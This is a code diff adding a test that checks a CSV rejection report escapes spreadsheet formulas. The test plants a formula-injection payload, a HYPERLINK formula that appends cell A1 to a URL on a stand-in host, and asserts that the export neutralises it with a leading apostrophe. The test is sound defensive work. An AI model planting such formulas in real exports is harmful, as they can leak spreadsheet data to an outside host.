@@ -210,6 +210,15 @@ def _client(session, email=None) -> TestClient:
     return TestClient(api, cookies={auth.SESSION_COOKIE: auth.log_in(session, email, "demo")})
 
 
+def test_csv_cells_never_start_a_formula(session, world):
+    session.add(RejectionReason(code="formula", language="en", label='=HYPERLINK("http://x/?"&A1,"Other")'))
+    session.commit()
+    _rejected(session, world["seller"], FEB, REVIEW, ("formula", "en"))
+    rows = _parse(report_csv(rejection_report(session, login_as(session, "recruiter@example.com"), None),
+                             "en").lstrip("\ufeff"))
+    assert ["After application review", '\'=HYPERLINK("http://x/?"&A1,"Other")', "1", ""] in rows
+
+
 def test_the_csv_route_needs_a_recruiter(session, world):
     url = "/reports/rejections.csv"
     anonymous = _client(session).get(url)
